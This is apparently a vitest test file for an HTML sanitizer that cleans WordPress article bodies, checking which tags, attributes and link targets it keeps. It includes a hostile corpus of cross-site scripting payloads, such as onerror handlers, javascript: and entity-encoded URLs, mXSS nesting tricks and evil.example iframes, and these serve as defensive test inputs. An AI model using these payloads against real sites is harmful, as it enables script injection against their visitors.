import { JSDOM } from 'jsdom';
import { beforeAll, describe, expect, it } from 'vitest';
import { sanitizeHtml, setSanitizerWindow } from '../../src/features/insights/sanitize';

/** One document to read results in (a new jsdom per check is slow). */
const reader = new JSDOM('').window.document;

// As on the server: no browser window, one handed over (the browser uses its own).
beforeAll(() => {
  setSanitizerWindow(new JSDOM('').window as unknown as Parameters<typeof setSanitizerWindow>[0]);
});

/** Every element and attribute name left in the sanitised HTML. */
function shape(html: string) {
  const body = reader.createElement('body');
  body.innerHTML = html;
  const elements = [...body.querySelectorAll('*')];
  return {
    tags: [...new Set(elements.map((element) => element.tagName.toLowerCase()))].sort(),
    attributes: [
      ...new Set(elements.flatMap((element) => [...element.attributes].map((a) => a.name))),
    ].sort(),
    text: body.textContent ?? '',
  };
}

describe('article bodies: what is kept', () => {
  it('keeps every allowed element and attribute, as written (an h1 as an h2: see below)', () => {
    const body = [
      '<h2 id="why" class="wp-block-heading">Why it matters</h2>',
      '<p>Plain, <strong>bold</strong>, <em>italic</em>, <u>underlined</u>,<br>and a <a href="https://example.com/x" title="Source">link</a>.</p>',
      '<ul><li>One</li></ul><ol><li>Two</li></ol>',
      '<blockquote><p>Quoted</p></blockquote>',
      '<figure class="wp-block-image"><img src="/uploads/chart.png" alt="A chart"><figcaption>Figure 1</figcaption></figure>',
      '<pre><code>const x = 1;</code></pre>',
      '<h1>h1</h1><h3>h3</h3><h4>h4</h4><h5>h5</h5><h6>h6</h6>',
    ].join('');
    expect(sanitizeHtml(body)).toBe(body.replace('<h1>h1</h1>', '<h2>h1</h2>'));
  });

  it.each([
    ['https://example.com/a', true],
    ['http://example.com/a', true],
    ['mailto:hello@response.example', true],
    ['/contact?ref=article', true],
    ['#why', true],
    ['//evil.example/x', false],
    ['javascript:alert(1)', false],
    ['JaVaScRiPt:alert(1)', false],
    ['java\tscript:alert(1)', false],
    ['  javascript:alert(1)', false],
    ['data:text/html;base64,PHNjcmlwdD4=', false],
    ['vbscript:msgbox(1)', false],
    ['tel:+15555550100', false],
    ['relative/page.html', false],
  ])('a link to %j is kept: %s', (href, kept) => {
    const html = sanitizeHtml(`<a href="${href}">x</a>`);
    expect(shape(html).attributes.includes('href')).toBe(kept);
    expect(shape(html).text).toBe('x');
  });

  it.each([
    ['https://wp.example/a.jpg', true],
    ['/wp-content/a.jpg', true],
    ['data:image/png;base64,iVBORw0KGgo=', false],
    ['javascript:alert(1)', false],
    ['mailto:x@y.example', false],
    ['//evil.example/a.jpg', false],
  ])('an image from %j is kept: %s', (src, kept) => {
    expect(shape(sanitizeHtml(`<img src="${src}" alt="a">`)).attributes.includes('src')).toBe(kept);
  });

  it('links that open a new tab get rel="noopener noreferrer"; other targets are dropped', () => {
    expect(sanitizeHtml('<a href="https://x.example" target="_blank" rel="nofollow">x</a>')).toBe(
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeHtml('<a href="/a" target="_top">x</a>')).toBe('<a href="/a">x</a>');
    expect(sanitizeHtml('<p target="_blank">x</p>')).toBe('<p>x</p>');
  });

  it('keeps an image’s size and responsive candidates, as WordPress writes them', () => {
    const image =
      '<img decoding="async" width="1024" height="576" src="/media/a-1024x576.jpg" alt="A chart" srcset="/media/a-1024x576.jpg 1024w, https://cms.example/a-300x169.jpg 300w" sizes="(max-width: 1024px) 100vw, 1024px" loading="lazy">';
    expect(sanitizeHtml(image)).toBe(image);
  });

  it('drops image attributes with values no image takes, and on other elements', () => {
    expect(
      sanitizeHtml(
        '<img src="/a.jpg" alt="" width="100%" height="-1" loading="soon" decoding="now">',
      ),
    ).toBe('<img src="/a.jpg" alt="">');
    for (const srcset of [
      'javascript:alert(1) 1x',
      '/a.jpg 1x, data:image/png;base64,AAAA 2x',
      '//evil.example/a.jpg 300w',
      '/a.jpg 300w 2x',
    ]) {
      expect(sanitizeHtml(`<img src="/a.jpg" alt="" srcset="${srcset}">`)).toBe(
        '<img src="/a.jpg" alt="">',
      );
    }
    expect(sanitizeHtml('<p width="10" sizes="1px" srcset="/a.jpg 1x">x</p>')).toBe('<p>x</p>');
  });
});

describe('article bodies: nothing that could run survives (a hostile corpus)', () => {
  const corpus = [
    '<script>alert(1)</script><p>after</p>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<p onclick="alert(1)" onmouseover="alert(2)">click</p>',
    '<img src="x" onerror="alert(1)">',
    '<img src=x onerror=alert(1)//>',
    '<svg onload="alert(1)"><circle r="4"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
    '<style>body{display:none}</style><p style="background:url(javascript:alert(1))">styled</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<a href="javascript:alert(1)">js</a><a href="&#106;avascript:alert(1)">entity js</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab js</a>',
    '<base href="https://evil.example/">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<div data-x="1" aria-label="y" hidden>div</div>',
    '<!-- <script>alert(1)</script> --><p>comment</p>',
    '<p id="__proto__" class="x">clobber</p><img name="getElementById">',
    '<input type="image" src="x" onerror="alert(1)"><textarea>t</textarea><select><option>o</option></select>',
  ];

  it.each(corpus.map((html) => [html]))('%s', (html) => {
    const clean = sanitizeHtml(html);
    const { tags, attributes } = shape(clean);
    const allowedTags = [
      'a',
      'blockquote',
      'br',
      'code',
      'em',
      'figcaption',
      'figure',
      'h1',
      'h2',
      'h3',
      'h4',
      'h5',
      'h6',
      'img',
      'li',
      'ol',
      'p',
      'pre',
      'strong',
      'u',
      'ul',
    ];
    expect(tags.filter((tag) => !allowedTags.includes(tag))).toEqual([]);
    expect(
      attributes.filter(
        (name) => !['href', 'src', 'alt', 'title', 'class', 'id', 'target', 'rel'].includes(name),
      ),
    ).toEqual([]);
    expect(clean).not.toMatch(/javascript:|onerror|onload|onclick|<script|<style|<iframe|<form/i);
  });

  it('drops the text of scripts and styles, and keeps the text around them', () => {
    expect(
      sanitizeHtml('<p>before</p><script>alert(1)</script><style>p{}</style><p>after</p>'),
    ).toBe('<p>before</p><p>after</p>');
  });

  it('sanitises a very long body (about 90 kB) in reasonable time', () => {
    const body =
      '<p>Paragraph with <a href="/x">a link</a> and <img src="x" onerror="y"></p>'.repeat(1000);
    const started = performance.now();
    const clean = sanitizeHtml(body);
    expect(clean).not.toContain('onerror');
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it('keeps the page one h1: a body’s h1 becomes an h2, with its id', () => {
    expect(sanitizeHtml('<h1 id="intro" onclick="x()">Intro</h1><p>Text</p>')).toBe(
      '<h2 id="intro">Intro</h2><p>Text</p>',
    );
  });

  it('turns a quote’s <cite> into a paragraph marked as its source; other cites become text', () => {
    expect(
      sanitizeHtml(
        '<blockquote class="wp-block-quote"><p>Let the agent do the checking.</p><cite onmouseover="x()">Selin Aydin, AI Lab</cite></blockquote>',
      ),
    ).toBe(
      '<blockquote class="wp-block-quote"><p>Let the agent do the checking.</p><p class="quote-citation">Selin Aydin, AI Lab</p></blockquote>',
    );
    expect(sanitizeHtml('<p>As <cite>The Lean Startup</cite> says</p>')).toBe(
      '<p>As The Lean Startup says</p>',
    );
  });

  it('does not let the restructuring carry anything through', () => {
    const clean = sanitizeHtml(
      '<blockquote><cite><img src=x onerror=alert(1)><script>alert(2)</script>Who</cite></blockquote><h1><a href="javascript:alert(3)">t</a></h1>',
    );
    expect(clean).not.toMatch(/onerror|<script|javascript:/i);
    expect(clean).toContain('<p class="quote-citation">');
    expect(clean).toContain('<h2>');
  });
});
